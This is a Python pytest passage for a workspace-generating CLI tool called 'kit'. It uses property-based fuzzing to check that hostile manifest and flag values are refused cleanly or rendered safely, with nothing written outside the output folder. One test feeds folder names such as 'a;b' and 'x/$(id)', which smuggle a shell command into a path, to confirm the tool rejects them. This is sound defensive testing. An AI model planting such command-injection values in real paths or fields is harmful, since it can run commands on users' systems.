    """Generate a workspace with manifest `text` into a fresh --out; what ran, what was written, and
    what changed outside --out."""
    with tempfile.TemporaryDirectory(prefix="kit-prop-") as tmp:
        base = Path(tmp)
        ws = workspace(base / "ws", manifest=text)
        before = snapshot(base)
        run = kit(capsys, "generate", ws, "--out", base / "out", *flags)
        after = snapshot(base)
        outside = {p for p in changed(before, after) if p != "out" and not p.startswith("out/")}
        files = rendered_under(base / "out") if (base / "out").is_dir() else {}
    return run, files, outside


_BASELINES: dict[tuple[str, ...], dict[str, Any]] = {}


def baseline(capsys: pytest.CaptureFixture[str], *flags: str) -> dict[str, Any]:
    if flags not in _BASELINES:
        run, files, _ = generate_into(capsys, GOOD, *flags)
        assert run.code == 0, run
        _BASELINES[flags] = structure(files)
    return _BASELINES[flags]


def assert_manifest_holds(capsys: pytest.CaptureFixture[str], text: str, *flags: str) -> None:
    """Manifest `text` generated with `flags`: nothing changes outside --out, and the kit either
    refuses in one line having written nothing, or writes files with the same structure as the
    plain manifest's, and never a terminal escape."""
    shape = baseline(capsys, *flags)
    run, files, outside = generate_into(capsys, text, *flags)
    assert outside == set(), outside
    assert "Traceback" not in run.out + run.err
    assert run.code in (0, 2), run
    if run.code == 2:
        one_line(run, 2)
        assert files == {}, "a refusal writes nothing"
        return
    assert "\x1b" not in run.out + run.err
    assert structure(files) == shape


@PROPERTY
@given(name=nasty_text, style=st.sampled_from(["lesson", "optimized"]))
def test_property_workspace_name(capsys: pytest.CaptureFixture[str], name: str, style: str) -> None:
    assert_manifest_holds(capsys, manifest(name=toml_str(name)), "--style", style, "--env", "gpu")


@PROPERTY
@given(
    cuda=st.one_of(nasty_text, st.from_regex(r"[0-9]{1,2}(\.[0-9]{1,2}){0,2}", fullmatch=True)),
    style=st.sampled_from(["lesson", "optimized"]),
)
def test_property_cuda_requirement(capsys: pytest.CaptureFixture[str], cuda: str, style: str) -> None:
    assert_manifest_holds(capsys, manifest(cuda=toml_str(cuda)), "--style", style, "--env", "gpu")


@PROPERTY
@given(channel=nasty_text, platform=nasty_text)
def test_property_channels_and_platforms(
    capsys: pytest.CaptureFixture[str], channel: str, platform: str
) -> None:
    text = manifest(
        channels=toml_str_list(channel or "c"), platforms=toml_str_list("linux-64", platform or "p")
    )
    assert_manifest_holds(capsys, text, "--env", "gpu")


OPTION_FLAGS = [
    "--env",
    "--matrix",
    "--cuda",
    "--image-name",
    "--base-image",
    "--runtime-image",
    "--subdir",
    "--app-dir",
    "--bootstrap-source",
]


@PROPERTY
@given(flag=st.sampled_from(OPTION_FLAGS), value=nasty_text)
def test_property_option_values(capsys: pytest.CaptureFixture[str], flag: str, value: str) -> None:
    """Any text for any flag: refused with one line, or rendered into files that parse with the
    same structure as the defaults (the app dir and the subdir only move paths)."""
    assume_flags = ["--style", "optimized", "--env", "gpu"]
    extra = ["--bootstrap", "localimage"] if flag == "--bootstrap-source" else []
    run, files, outside = generate_into(capsys, GOOD, *assume_flags, *extra, flag, value)
    assert outside == set(), outside
    assert "Traceback" not in run.out + run.err and run.code in (0, 2), run
    if run.code == 2:
        one_line(run, 2)
        return
    assert "\x1b" not in run.out + run.err
    shape = structure(files)  # parses
    if flag not in ("--subdir", "--app-dir", "--bootstrap-source", "--matrix", "--cuda", "--env"):
        assert shape == baseline(capsys, *assume_flags)


def test_a_file_another_workspace_wrote_is_refused_with_its_own_fix(tmp_path: Path) -> None:
    """The state file says workspace `a/` wrote the workflow; `b/` rendering the same path is
    refused, and the fix names the way out that fits (own workflow names), not the hand-edit one."""
    from kit.base.errors import OverwriteRefused
    from kit.output.render import FileKind, RenderedFile
    from kit.output.write import STATE_FILE, apply_changes, plan_changes, sha256

    workflow = ".github/workflows/docker.yaml"
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / workflow).write_text("name: a\n")
    record = {"sha256": sha256("name: a\n"), "workspace": "a/"}
    (tmp_path / STATE_FILE).write_text(json.dumps({"version": 2, "files": {workflow: record}}))
    files = {workflow: RenderedFile(workflow, "name: b\n", FileKind.MANAGED)}
    (change,) = plan_changes(files, tmp_path, prefix="b/")
    assert change.action == "refused" and "belongs to the workspace in a/" in change.reason
    with pytest.raises(OverwriteRefused) as refused:
        apply_changes([change], tmp_path, prefix="b/")
    assert "own workflow names" in (refused.value.fix or "")
    assert (tmp_path / workflow).read_text() == "name: a\n"


@pytest.mark.parametrize("json_flag", [(), ("--json",)], ids=["text", "json"])
def test_a_reader_that_went_away_ends_the_kit_quietly(json_flag: tuple[str, ...]) -> None:
    """`kit ... | head` where head has stopped reading: no BrokenPipeError traceback, the exit
    status a shell gives a process ended by SIGPIPE."""
    read_end, write_end = os.pipe()
    os.close(read_end)  # nobody will ever read what the kit prints
    try:
        done = subprocess.run(
            [*KIT, "inspect", str(REPO / "examples" / "cuda-exercise"), *json_flag],
            stdout=write_end,
            stderr=subprocess.PIPE,
            text=True,
            env=ENV,
            timeout=60,
            check=False,
        )
    finally:
        os.close(write_end)
    assert done.returncode == 141 and done.stderr == "", done


def test_lesson_commands_outside_the_lesson_say_so(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    for action in (("sync",), ("template", "--out", str(tmp_path / "t"))):
        run = kit(capsys, "lesson", *action, "--root", tmp_path)
        one_line(run, 2, "[root]")
    assert not (tmp_path / "t").exists()


@pytest.mark.parametrize("folder", ["my ws", "a;b", "x/$(id)"])
def test_a_workspace_folder_the_workflows_cannot_name(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, folder: str
) -> None:
    """No --subdir given, but the folder found from the repository root cannot go into workflow
    paths: one line that blames the folder (not a flag the user never passed), nothing written."""
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    ws = workspace(repo / folder)
    before = snapshot(tmp_path)
    run = kit(capsys, "generate", ws)
    one_line(run, 2, "the workspace's folder")
    assert "[subdir]" in run.err and "rename" in run.err
    assert not changed(before, snapshot(tmp_path))
